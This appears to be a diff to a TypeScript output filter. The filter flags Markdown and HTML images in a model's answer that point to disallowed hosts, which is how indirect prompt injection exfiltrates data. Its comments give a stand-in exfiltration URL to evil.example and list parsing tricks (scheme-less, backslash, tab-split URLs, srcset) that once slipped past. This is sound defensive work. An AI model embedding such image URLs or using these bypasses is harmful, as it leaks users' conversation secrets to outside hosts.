@@ -1,18 +1,27 @@
 /**
  * Images an answer asks its reader's client to fetch from a host outside the allowed ones: a Markdown image
  * (`![x](https://evil.example/p?q=…)`, or by reference, `![x][r]` with `[r]: https://…`) or an HTML `<img
- * src>`. A host that renders the answer fetches it at once, no click needed, so a model led to put
+ * src>` or `srcset`. A host that renders the answer fetches it at once, no click needed, so a model led to put
  * the conversation's secrets into its URL sends them to that host: the exfiltration step of an indirect
  * prompt injection. Before 2026-12-06 such an image passed every action.
  * An image in Markdown's code (a fenced block, a code span: markdown-code.ts) is shown as written and
  * fetches nothing, as markup there hides nothing (hidden-markup.ts); before 2026-12-06 it was found.
  */
+import { decodeReferences } from './html-references.js';
 import { markdownCode, type CodeSpans } from './markdown-code.js';
 
 /** An inline Markdown image: group 1 its URL (in <…> or bare). */
 const INLINE = /!\[(?:[^\][]|\[[^\][]*\])*\]\(\s*(?:<([^<>\n]*)>|([^\s()]+(?:\([^\s()]*\)[^\s()]*)*))(?:\s+(?:"[^"]*"|'[^']*'|\([^)]*\)))?\s*\)/g;
-/** An HTML image's source, quoted or not. */
-const IMG = /<img\b[^<>]*?\ssrc\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'<>]+))[^<>]*>/gi;
+/**
+ * An HTML image's tag, group 1 its attributes, read as hidden-markup.ts reads a tag's: a quoted value to
+ * its closing quote, so `<img alt="a>b" src=…>` is one tag (before 2026-12-06 it was no image).
+ */
+const IMG = /<img(?=[\s/>])((?:[^<>"'=]|=\s*(?:"[^"]*"|'[^']*'|(?![\s"']))|["'])*)>/gi;
+/** The attributes an image is fetched by: group 1 the name, 2–4 the value, quoted or not. */
+const SOURCE = /(?:^|[\s/"'])(src|srcset)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'<>]+))/gi;
+/** A base the checks resolve against, of either scheme (a host page's may be http or https): its own host is no other. */
+const BASE_HOST = 'base.invalid';
+const BASES = [`https://${BASE_HOST}/`, `http://${BASE_HOST}/`];
 /** A reference image (`![x][r]`, `![r][]`, `![r]`): group 1 the label or text. */
 const REFERENCE = /!\[((?:[^\][]|\[[^\][]*\])*)\](?:\[([^\][]*)\])?(?!\()/g;
 /** A link reference definition on a line of its own: group 1 its label, group 2 its URL. */
@@ -24,19 +33,42 @@ const DEFINITION = /^ {0,3}\[([^\][]+)\]:[ \t]*\n?[ \t]*<?([^\s<>]+)>?.*$/gm;
  * domain's hosts (`*.example.com`), or `*` for any.
  */
 export function outsideImage(url: string, allowed: readonly string[]): boolean {
-  const u = url.trim();
-  if (!/^(?:https?:)?\/\//i.test(u)) return false;
-  let host: string;
-  try {
-    host = new URL(u.startsWith('//') ? `https:${u}` : u).hostname.toLowerCase();
-  } catch {
-    return true; // not a URL the gateway can read: a renderer may still fetch it
+  // As a browser reads it: references decoded (an attribute's, a Markdown destination's), tabs and line
+  // breaks removed, then parsed by the URL standard (backslashes as slashes, `http:host` without them).
+  // Tested for "http(s)://" and "//" alone, `http:evil.example/…`, `\\evil.example/…` and `ht\ttps://…`
+  // were relative URLs, left, before 2026-12-06, and fetched from evil.example.
+  const u = decodeReferences(url).replace(/[\t\n\r]/g, '');
+  // A path with no scheme and no leading slash (`img/a.png`, a srcset's `2x`) stays on the page's host: no parse.
+  if (!u.includes(':') && !/^[\x00-\x20]*[\\/]/.test(u)) return false;
+  for (const base of BASES) {
+    let parsed: URL;
+    try {
+      parsed = new URL(u, base);
+    } catch {
+      return /^\s*(?:https?:|[\\/]{2})/i.test(u); // absolute, and not a URL the gateway can read: a renderer may still fetch it
+    }
+    if ((parsed.protocol === 'http:' || parsed.protocol === 'https:') && parsed.hostname !== BASE_HOST && !allowedHost(parsed.hostname, allowed)) return true;
   }
+  return false;
+}
+
+function allowedHost(host: string, allowed: readonly string[]): boolean {
   for (const a of allowed) {
-    if (a === '*' || a === host) return false;
-    if (a.startsWith('*.') && host.endsWith(a.slice(1))) return false;
+    if (a === '*' || a === host) return true;
+    if (a.startsWith('*.') && host.endsWith(a.slice(1))) return true;
   }
-  return true;
+  return false;
+}
+
+/** Whether an `<img>`'s attributes have it fetched from a host not allowed: its `src`, or any candidate of its `srcset`. */
+function outsideImg(attributes: string, allowed: readonly string[]): boolean {
+  for (const m of attributes.matchAll(SOURCE)) {
+    const value = m[2] ?? m[3] ?? m[4] ?? '';
+    // A srcset's candidates: URLs and their descriptors (`2x`, `100w`, relative, so never outside).
+    const urls = m[1]!.toLowerCase() === 'src' ? [value] : value.split(/[\s,]+/);
+    if (urls.some((u) => outsideImage(u, allowed))) return true;
+  }
+  return false;
 }
 
 /** Only text with one of these can hold an image. */
@@ -54,7 +86,7 @@ export function outsideImages(s: string, allowed: readonly string[], html = fals
   const shownAsCode = (at: number): boolean => within((code ??= html || !(s.includes('`') || s.includes('~~~')) ? [] : markdownCode(s)), at);
   const spans: Array<[number, number]> = [];
   for (const m of s.matchAll(INLINE)) if (outsideImage(m[1] ?? m[2] ?? '', allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
-  for (const m of s.matchAll(IMG)) if (outsideImage(m[1] ?? m[2] ?? m[3] ?? '', allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
+  for (const m of s.matchAll(IMG)) if (outsideImg(m[1]!, allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
   const labels = new Set<string>();
   for (const m of s.matchAll(REFERENCE)) if (!shownAsCode(m.index)) labels.add(label(m[2] || m[1]!));
   if (labels.size > 0) {
